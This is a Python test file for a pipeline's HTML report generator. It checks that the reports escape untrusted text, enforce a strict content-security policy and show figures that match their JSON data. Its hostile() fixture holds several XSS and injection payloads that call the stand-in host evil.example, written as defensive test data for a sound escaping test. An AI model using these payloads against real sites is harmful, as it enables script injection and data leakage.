from __future__ import annotations

import json
import random
import re
import shutil
import struct
import subprocess
import sys
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from pipeline.article import Cut, restore
from pipeline.records import visible
from pipeline.report.articles import Mark, shown_article
from pipeline.report.charts import (
    EDGE,
    SIZE,
    TOP,
    as_png,
    as_svg,
    bar,
    confusion_matrix,
    precision_recall,
    range_bar,
    reliability,
)
from pipeline.report.dump import dump_page
from pipeline.report.evaluation import chart_files, evaluation_page
from pipeline.report.html import Html, element, grouped, page, pointer, table
from pipeline.topics.assessment import Assessment
from pipeline.topics.compare import compare
from pipeline.topics.corpus import Example
from pipeline.topics.evaluate import Scored, judge, truth
from pipeline.topics.facets import facets, whole
from pipeline.topics.splits import Split
from pipeline.topics.taxonomy import read_taxonomy
from tests.documents import invoke

TAXONOMY = read_taxonomy()

TAGS = {
    *("html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "nav", "a", "section", "p", "span", "div"),
    *("table", "thead", "tbody", "tr", "th", "td", "figure", "article", "strong", "del", "mark"),
    *("svg", "line", "text", "polyline", "circle", "rect"),
}
ATTRIBUTES = {
    *("lang", "charset", "content", "http-equiv", "name", "id", "href", "class", "data-figure", "role", "aria-label"),
    *("viewbox", "width", "height", "x", "y", "x1", "x2", "y1", "y2", "cx", "cy", "r", "points", "transform", "fill"),
    *(
        "stroke",
        "stroke-width",
        "stroke-dasharray",
        "text-anchor",
        "font-family",
        "font-size",
        "font-weight",
        "colspan",
    ),
}


def hostile() -> list[str]:
    """Five hundred texts that try to become markup, script, style or a request."""
    chance = random.Random(7)
    place = "http://evil.example/x"
    seeds = [
        "<script>document.title='pwned'</script>",
        f"<img src={place} onerror=document.title='pwned'>",
        f'"><svg/onload=fetch("{place}")>',
        f"'><iframe srcdoc=\"<script src='{place}'></script>\">",
        f"</style><link rel=stylesheet href={place}>",
        f"</title><script src={place}></script>",
        f"<style>@import '{place}'; body {{ background: url({place}) }}</style>",
        f"<a href=\"javascript:document.title='pwned'\" ping={place}>x</a>",
        f'" onmouseover="document.title=1" style="background:url({place})',
        f"<meta http-equiv=refresh content='0;url={place}'>",
        f"<base href={place}><form action={place}><input autofocus onfocus=alert(1)>",
        f"<object data={place}></object><embed src={place}>",
        "<!-- --><![CDATA[ ]]><?xml version='1.0'?><!DOCTYPE x>",
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img&#62; &amp;amp;",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        f"<video poster={place}><source onerror=alert(1)></video>",
        f"<noscript><p title='</noscript><img src={place} onerror=alert(1)>'>",
        "\u202egnp.exe\u202c \u2066\u2069 \u200b \ufeff \x00 \x1b[31m \x9b \ud800 \U000e0041",
        f"url({place}) expression(alert(1)) -moz-binding:url({place})",
        f"<template><script>fetch('{place}')</script></template><plaintext>",
        "{{7*7}} ${alert(1)} <%= 1 %> `x` \\u003cscript\\u003e",
    ]
    joints = ("", " ", "\n", "\t", "稀土", "</", "<", ">", '"', "'", "`", "&", "/", "\x0c", "--", "]]>", "=")
    found = list(seeds)
    while len(found) < 500:
        found.append(
            "".join(chance.choice(seeds if chance.random() < 0.4 else joints) for _ in range(chance.randint(2, 6)))
        )
    return found


HOSTILE = hostile()


def of_text(text: str, number: int) -> list[tuple[str, str, Html]]:
    """Sections that show a text in every place that a text of a page, a corpus or a folder's name comes to."""
    cut = Cut(0, len(text), text, text, text)
    body = f"前{text}後"
    marks = [Mark("text", 1, 1 + len(text), text), Mark("title", 0, len(text), "x")]
    facts = [text, "plain"]
    article = shown_article(text, text, body, [cut], marks, facts, text)
    charts = (
        bar(0.5),
        range_bar(0.5, 0.1, 0.9),
        precision_recall(text, [(0.1, 0.5, 1)], (1, 1)),
        reliability(text, [(0, 1, 2, 0.5, 1)]),
        confusion_matrix([{"has": text, "got": "", "articles": 3}], [text]),
    )
    listed = table([text, "x"], [[text, element("span", text, data_figure=pointer(text))]])
    parted = grouped([text, text], [(text or "x", [[text, text]])], aside=(1,))
    return [(f"s{number}", text, element("div", article, listed, parted, *charts))]


@pytest.fixture(scope="module")
def everything() -> bytes:
    sections = [section for number, text in enumerate(HOSTILE) for section in of_text(text, number)]
    return page(HOSTILE[0], sections)


def skeleton(content: bytes) -> Counter[str]:
    """Count elements; on the way look at each: nothing that runs, loads or leads elsewhere."""
    found: Counter[str] = Counter()
    root = LexborHTMLParser(content).root
    assert root is not None
    for node in root.traverse(include_text=False):
        assert node.tag in TAGS or node.tag in ("-comment", "!doctype"), node.tag
        assert node.tag != "-comment"
        found[node.tag or ""] += 1
        for name, value in node.attributes.items():
            assert name.lower() in ATTRIBUTES, (node.tag, name)
            if name == "href":
                assert re.fullmatch(r"#[a-z0-9]+", value or ""), value
            if name in ("id", "class", "role", "fill", "stroke"):
                assert re.fullmatch(r"[a-z0-9# ]+", value or ""), value
    return found


def test_no_text_becomes_markup(everything: bytes) -> None:
    harmless = [section for number, text in enumerate(HOSTILE) for section in of_text("x" * len(visible(text)), number)]
    plain = skeleton(page("harmless", harmless))
    assert skeleton(everything) == plain
    assert plain["style"] == plain["title"] == 1 and plain["article"] == 500


def test_text_stands_there_as_it_is_seen(everything: bytes) -> None:
    tree = LexborHTMLParser(everything)
    headings = [node.text() for node in tree.css("section > h2")]
    assert headings == [visible(text).replace("\r\n", "\n") for text in HOSTILE]
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b\ufeff\x00-\x08\x1b\x7f-\x9f]", everything.decode())


@given(st.text(st.characters()))
def test_any_text_at_all_stays_text(text: str) -> None:
    content = page("t", of_text(text, 1))
    assert skeleton(content) == skeleton(page("t", of_text("x" if text else "", 1))) or not text.strip("\n")
    content.decode("utf-8")


def test_the_policy_lets_in_nothing_but_the_one_style(everything: bytes) -> None:
    import base64
    import hashlib

    tree = LexborHTMLParser(everything)
    meta = tree.css_first("meta[http-equiv]")
    style = tree.css_first("style")
    assert meta is not None and style is not None
    digest = base64.b64encode(hashlib.sha256(style.text().encode()).digest()).decode()
    rules = dict(rule.strip().split(" ", 1) for rule in (meta.attributes["content"] or "").split(";"))
    assert rules["default-src"] == rules["base-uri"] == rules["form-action"] == "'none'"
    assert rules["style-src"] == f"'sha256-{digest}'"
    assert "url(" not in style.text() and "@import" not in style.text()
    assert not any("style" in node.attributes for node in tree.css("*"))


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """The report on a run over pages whose ids, titles, addresses and texts are the five hundred."""
    folder = tmp_path_factory.mktemp("hostile")
    story = "鎮公所昨天說，水塔換了新的閥門，三百戶人家不必再半夜接水。村長說，這件事拖了六年。"
    rows = [
        {
            "id": f"{n}{text}",
            "title": text,
            "url": f"https://a{n % 9}.example/{text}",
            "text": f"{story}\n{text}\n{story}",
        }
        for n, text in enumerate(HOSTILE)
    ]
    rows[::40] = [{**row, "text": row["title"]} for row in rows[::40]]  # some have no article
    name = folder / "<script>document.title='pwned'<"
    (folder / "pages.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), "utf-8")
    arguments = ["run", str(folder / "pages.jsonl"), "--out", str(name), "--page-seconds", "0", "--max-rejects", "100%"]
    said, code = invoke(arguments)
    assert code == 0, said
    return dump_page(name)


def test_a_run_over_hostile_pages_is_shown_as_text(hostile_run: bytes) -> None:
    found = skeleton(hostile_run)
    assert found["article"] == 10 and found["style"] == found["title"] == 1
    text = hostile_run.decode()
    assert "&lt;script&gt;" in text and not re.search("[\u202a-\u202e\u2066-\u2069\x00-\x08\x1b\x7f-\x9f]", text)


BROWSER = next(filter(None, map(shutil.which, ("chromium-headless-shell", "chromium", "chromium-browser"))), None)


def opened(content: bytes, folder: Path) -> tuple[LexborHTMLParser, str]:
    """Return the page as a browser has it after its scripts, and what it asked the network for."""
    (folder / "r.html").write_bytes(content)
    log = folder / "net.json"
    command = [str(BROWSER), "--no-sandbox", "--disable-gpu", "--virtual-time-budget=2000", f"--log-net-log={log}"]
    command += ["--host-resolver-rules=MAP * 127.0.0.1:9", f"--user-data-dir={folder / 'home'}", "--dump-dom"]
    done = subprocess.run([*command, (folder / "r.html").as_uri()], capture_output=True, timeout=60, check=True)
    return LexborHTMLParser(done.stdout), log.read_text("utf-8", "replace")


@pytest.mark.skipif(BROWSER is None, reason="no chromium here (Debian: chromium-headless-shell)")
def test_in_a_browser_no_script_runs_and_no_request_leaves(
    everything: bytes, hostile_run: bytes, tmp_path: Path
) -> None:
    """Without the policy, which is the second fence: the first has to hold by itself."""
    for name, content, articles in (("all", everything, 500), ("run", hostile_run, 10)):
        (tmp_path / name).mkdir()
        bare = re.sub(rb'<meta http-equiv="Content-Security-Policy"[^>]*>', b"", content)
        open_, asked = opened(bare, tmp_path / name)
        title = open_.css_first("title")
        written = LexborHTMLParser(content).css_first("title")
        assert title is not None and written is not None and title.text() == written.text() != "pwned"
        assert len(open_.css("article")) == articles
        assert "evil.example" not in asked
    (tmp_path / "raw").mkdir()
    raw = f"<title>t</title>{HOSTILE[0]}{HOSTILE[1]}".encode()
    open_, asked = opened(raw, tmp_path / "raw")
    title = open_.css_first("title")
    assert title is not None and title.text() == "pwned" and "evil.example" in asked, "unescaped, both would be seen"


# What is shown of an article.


def text_of(node: Any) -> str:
    return str(node.text())


@given(st.lists(st.tuples(st.text("字あ\n<", min_size=1, max_size=8), st.booleans()), max_size=8), st.data())
def test_cuts_and_marks_stand_where_they_belong(pieces: list[tuple[str, bool]], data: st.DataObject) -> None:
    text, cuts, place = "", [], 0
    for piece, cut in pieces:
        if cut:
            cuts.append(Cut(place, place + len(piece), "related", "why", piece))
        else:
            text += piece
        place += len(piece)
    start = data.draw(st.integers(0, max(0, len(text) - 1)))
    end = data.draw(st.integers(start, len(text)))
    shown = shown_article("h", "", text, cuts, [Mark("text", start, end, "tea")], [], "hant")
    node = LexborHTMLParser(shown.text).css_first("div.text")
    assert node is not None
    told = shown.text
    assert told.count("<del>") == len(cuts)
    marked = "".join(text_of(mark).removesuffix(" [tea]") for mark in node.css("mark"))
    assert marked == text[start:end]
    for extra in (*node.css("span.why"), *node.css("span.topic")):
        extra.decompose()
    bare = text_of(node).replace("\n", "")
    assert bare == restore(text, cuts).replace("\n", "")


def test_long_stretches_are_shortened_and_say_by_how_much() -> None:
    text = "甲" * 1000 + "稀土" + "乙" * 100
    shown = LexborHTMLParser(shown_article("h", "", text, [], [Mark("text", 1000, 1002, "x")], [], "").text).text()
    assert "… (760 characters) …" in shown and shown.count("甲") == 240 and shown.count("乙") == 100


# Figures are those of the JSON.


def resolved(data: Any, path: str) -> Any:
    for step in path.split("/"):
        step = step.replace("~1", "/").replace("~0", "~")
        data = data[int(step)] if isinstance(data, list) else data[step]
    return data


def figures_of(content: bytes) -> Iterator[tuple[str, str]]:
    for node in LexborHTMLParser(content).css("[data-figure]"):
        yield node.attributes["data-figure"] or "", node.text()


def assert_the_same(shown: str, value: Any) -> None:
    if value is None:
        assert shown == "refused"
        return
    number = shown.split()[0]
    if number.startswith("<"):
        assert value < float(number[1:])
        return
    forms = ("{:.3f}", "{:+.3f}", "{:,}", "{:.1%}", "{:.0%}")
    assert number in {form.format(value) for form in forms}, (shown, value)


def example(number: int) -> Example:
    labels = [(), ("rare_earths",), ("trade_war",), ("geopolitics", "trade_war")][number % 4]
    text = f"第{number}篇。稀土出口管制，關稅升到{number}%。外交部回應。" + HOSTILE[number % 500]
    cuts = (Cut(0, 3, "related", "rule <x>", "廣告\n"),) if number % 2 else ()
    return Example(f"e{number:03}", HOSTILE[-number], text, labels, "hant", f"<{number % 3}>", "2024-05-07", cuts=cuts)


@pytest.fixture(scope="module")
def assessed() -> Assessment:
    examples = tuple(example(number) for number in range(80))
    labels = truth(examples, TAXONOMY.ids)
    given_ = labels.copy()
    given_[::7] = ~given_[::7]
    chance = np.random.default_rng(1)
    scores = np.clip(np.where(given_, 0.8, 0.2) + chance.normal(0, 0.05, given_.shape), 0, 1)
    seen = np.zeros(80, dtype=bool)
    seen[:40] = True

    def made(tags: Any, name: str) -> Scored:
        return Scored(name, examples, TAXONOMY.ids, scores, tags, (0.5, 0.5, 0.5), "by hand", seen)

    ours = made(given_, "<model>")
    made_splits = (Split("random", 60, 20, "seed", whole(ours)), Split("time", 0, 0, "", None, "too <few>"))
    report = judge(examples, TAXONOMY.ids, scores, given_, "by hand")
    return Assessment(ours, report, facets(ours), made_splits, (compare(ours, made(labels, "right")),), TAXONOMY)


def test_every_figure_of_an_evaluation_is_the_jsons(assessed: Assessment) -> None:
    content = evaluation_page(assessed, None)
    data = json.loads(json.dumps(assessed.as_json()))
    found = list(figures_of(content))
    assert len(found) > 150
    for path, shown in found:
        assert_the_same(shown, resolved(data, path))
    told = {path.split("/")[0] for path, _ in found}
    assert told == {"facets", "splits", "against", "curves", "confusions"}
    skeleton(content)


def test_curves_are_drawn_from_the_json(assessed: Assessment) -> None:
    tree = LexborHTMLParser(evaluation_page(assessed, None))
    data = assessed.as_json()
    assert len(tree.css("section#confused rect")) == 1 + len(data["confusions"]), "the paper, and a square for each"
    lines = [node.attributes["points"] or "" for node in tree.css("section#curves polyline")]
    drawn = [len(line.split()) for line in lines]
    wanted = []
    for curve in data["curves"]:
        wanted += [len(curve["precision_recall"])] if curve["precision_recall"] else []
        wanted += [2, len(curve["reliability"])]
    assert drawn == wanted
    x, y = map(float, lines[0].split()[0].split(","))
    _, recall, precision = data["curves"][0]["precision_recall"][0]
    assert (x, y) == (round(EDGE + SIZE * recall, 1), round(TOP + SIZE * (1 - precision), 1))


def test_every_chart_is_a_file_too(assessed: Assessment, tmp_path: Path) -> None:
    files = chart_files(assessed)
    data = assessed.as_json()
    names = {f"reliability-{topic}" for topic in TAXONOMY.ids} | {"confusions"}
    names |= {f"precision-recall-{curve['topic']}" for curve in data["curves"] if curve["precision_recall"]}
    assert set(files) == {f"{name}.{kind}" for name in names for kind in ("svg", "png")} and len(names) > 5
    for name, content in files.items():
        if name.endswith(".svg"):
            root = ElementTree.fromstring(content)
            assert root.tag == "{http://www.w3.org/2000/svg}svg" and not list(root.iter("script"))
        else:
            width, height = struct.unpack(">II", content[16:24])
            picture = ElementTree.fromstring(files[name.replace(".png", ".svg")])
            assert content.startswith(b"\x89PNG") and (width, height) == (
                2 * int(picture.attrib["width"]),
                2 * int(picture.attrib["height"]),
            )
    assert chart_files(assessed) == files, "the same figures give the same bytes"


def test_charts_of_any_name_are_well_formed() -> None:
    for text in HOSTILE[::25]:
        root = ElementTree.fromstring(as_svg(reliability(text, [(0.2, 0.5, 12, 0.1, 0.9)])))
        assert not [node.tag for node in root.iter() if node.tag.rpartition("}")[2] not in TAGS]


def test_without_resvg_there_are_no_pngs(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "resvg_py", None)
    assert as_png(bar(0.5)) is None


def test_errors_are_shown_with_cuts_and_evidence(assessed: Assessment) -> None:
    tree = LexborHTMLParser(evaluation_page(assessed, None))
    articles = tree.css("section#errors article")
    data = assessed.as_json()["worst"]
    assert len(articles) == len(data) == 20
    for node, error in zip(articles, data, strict=True):
        heading = node.css_first("h3")
        assert (
            heading is not None
            and f"{error['topic']} is {'missing' if error['missing'] else 'wrong'}" in heading.text()
        )
        assert f"{error['score']:.3f}" in heading.text() and error["id"] in node.text()
    assert tree.css("section#errors del") and tree.css("section#errors mark")


@pytest.fixture(scope="module")
def run_folder(tmp_path_factory: pytest.TempPathFactory, root: Path) -> Path:
    out = tmp_path_factory.mktemp("r") / "run"
    _, code = invoke(
        ["run", str(root / "corpora" / "sample"), "--out", str(out), "--max-rejects", "3", "--page-seconds", "0"]
    )
    assert code == 0
    return out


def test_every_figure_of_a_run_is_that_of_its_books(run_folder: Path) -> None:
    from pipeline.dumps.status import status
    from pipeline.dumps.tables import to_json

    content = dump_page(run_folder)
    state = status(run_folder)
    data = json.loads((run_folder / "report.json").read_text("utf-8")) | {
        "cleaning": to_json(state.counts, state.versions)
    }
    found = list(figures_of(content))
    for path, shown in found:
        assert_the_same(shown, resolved(data, path))
    shown_paths = {path for path, _ in found}
    assert {"read", "written", "rejected", "skipped"} <= shown_paths
    kinds = {path.split("/")[3] for path in shown_paths if path.startswith("cleaning/all/cuts/")}
    assert kinds == set(data["cut_characters"])
    reasons = {path for path in shown_paths if path.startswith("cleaning/all/no_article/")}
    assert len(reasons) == len(data["cleaning"]["all"]["no_article"]) > 0
    tree = LexborHTMLParser(content)
    shown_pages = [node.text() for node in tree.css("section#look h3")]
    assert "No article" in shown_pages and len([name for name in shown_pages if "and no article" in name]) >= 3
    by_both = [path for path in shown_paths if re.fullmatch(r"cleaning/sites/\d+/cuts/\w+/characters", path)]
    assert len(by_both) > len(data["cleaning"]["sites"])
    skeleton(content)
    assert content == dump_page(run_folder), "the same run gives the same bytes"


def test_the_command_writes_one_file_and_does_not_write_over_it(run_folder: Path, tmp_path: Path) -> None:
    said, code = invoke(["report", str(run_folder), "-o", str(tmp_path / "r.html")])
    assert code == 0 and str(tmp_path / "r.html") in said
    assert [p.name for p in tmp_path.iterdir()] == ["r.html"]
    said, code = invoke(["report", str(run_folder), "-o", str(tmp_path / "r.html")])
    assert code == 2 and "--force" in said
    said, code = invoke(["report", str(tmp_path)])
    assert code == 2
    rows = [json.dumps({"id": f"n{n}", "title": "", "text": f"第{n}天下雨。", "labels": []}) for n in range(12)]
    (tmp_path / "c.jsonl").write_text("\n".join(rows), "utf-8")
    said, code = invoke(
        ["report", str(run_folder), "-o", str(tmp_path / "b.html"), "--corpus", str(tmp_path / "c.jsonl")]
    )
    assert code == 0, said
    heads = [node.text() for node in LexborHTMLParser((tmp_path / "b.html").read_bytes()).css("h2")]
    assert "What was cut" in heads and "Figures" in heads


def test_a_report_that_no_longer_holds_does_not_stay_beside_the_run(tmp_path: Path, root: Path) -> None:
    out, page = str(tmp_path / "run"), tmp_path / "run" / "report.html"
    text = root / "corpora" / "sample" / "text"

    def ran(*more: str) -> str:
        said, code = invoke(["run", *more, "--out", out, "--page-seconds", "0"])
        assert code == 0, said
        return said

    first, other = str(text / "tw-arctic-ores.txt"), str(text / "hk-trail-signs.txt")
    ran(first)
    assert invoke(["report", out])[1] == 0
    made = page.read_bytes()
    assert "report.html" not in ran(first) and page.read_bytes() == made, "nothing was done: it holds"
    assert f"taowen report {out}" in ran(first, other, "--add") and not page.exists()
    assert invoke(["report", out])[1] == 0 and page.read_bytes() != made
    assert f"taowen report {out}" in ran(other, "--force") and not page.exists()
